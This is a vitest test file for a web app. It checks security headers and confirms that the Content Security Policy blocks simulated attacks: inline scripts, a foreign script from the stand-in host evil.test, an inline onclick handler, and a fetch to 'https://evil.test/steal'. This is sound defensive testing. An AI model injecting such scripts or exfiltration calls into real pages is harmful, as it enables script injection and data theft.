import { describe, expect, inject, it } from 'vitest';
import { hosts } from '../support/browser/hosts.ts';
import { openBrowser } from '../support/browser/openBrowser.ts';

const { visit } = openBrowser();
const origin = `http://127.0.0.1:${inject('port')}`;

const scriptOf = async (): Promise<string> => {
  const page = await (await fetch(`${origin}/`)).text();
  return /src="(\/assets\/[^"]+\.js)"/.exec(page)?.[1] ?? '';
};

describe('the security headers', () => {
  it.each([
    ['a page', '/', 200],
    ['a room', '/ui/vehicles', 200],
    ['a script', '', 200],
    ['the configuration', '/config.json', 200],
    ['an image', '/brands/green/logo.svg', 200],
    ['a service', '/v1/companies/?isPaged=false&userId=1', 200],
    ['a service that refuses', '/v1/companies?isPaged=false&userId=me', 401],
    ['a service that is not there', '/api/v1/nothing', 404],
    ['an asset that is not there', '/assets/nothing.js', 404],
  ])('are set on %s', async (_, path, status) => {
    const answer = await fetch(origin + (path || (await scriptOf())));
    expect(answer.status).toBe(status);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
    expect(answer.headers.get('cross-origin-opener-policy')).toBe('same-origin');
    const policy = answer.headers.get('content-security-policy') ?? '';
    const rules = policy.split('; ');
    expect(rules).toEqual(
      expect.arrayContaining(["default-src 'self'", "object-src 'none'", "frame-ancestors 'none'"]),
    );
    // The page has one script in it; nothing else has any.
    const scripts = answer.headers.get('content-type')?.startsWith('text/html') ? / 'sha256-[\w+/=]{44}'$/ : /'self'$/;
    expect(rules.find((rule) => rule.startsWith('script-src'))).toMatch(scripts);
    expect(rules.find((rule) => rule.startsWith('script-src'))?.replace(/ 'sha256-.*/, '')).toBe("script-src 'self'");
    expect(policy).not.toContain('unsafe');
  });
});

const attacks: readonly [what: string, violation: string, attack: () => void][] = [
  [
    'a script in the page',
    'script-src-elem inline',
    () => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.ran = "yes"';
      document.body.append(script);
    },
  ],
  [
    'a script of another host',
    'script-src-elem https://evil.test',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.test/x.js';
      document.body.append(script);
    },
  ],
  [
    'a handler in markup',
    'script-src-attr inline',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'document.documentElement.dataset.ran = "yes"');
      document.body.append(button);
      button.click();
    },
  ],
  [
    'a call to another host',
    'connect-src https://evil.test',
    () => {
      void fetch('https://evil.test/steal').catch(() => undefined);
    },
  ],
];

it('the content security policy blocks inline and foreign scripts, inline handlers and calls to other hosts', async () => {
  const page = await visit(hosts.greenFleet, '/', { expects: [/Content Security Policy/, /^content policy: /] });
  for (const [what, violation, attack] of attacks) {
    const reported = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            ({ effectiveDirective, blockedURI }) => resolve(`${effectiveDirective} ${blockedURI}`),
            { once: true },
          );
        }),
    );
    await page.evaluate(attack);
    expect([what, await reported]).toEqual([what, expect.stringContaining(violation)]);
  }
  expect(await page.evaluate(() => document.documentElement.dataset['ran'])).toBeUndefined();
});
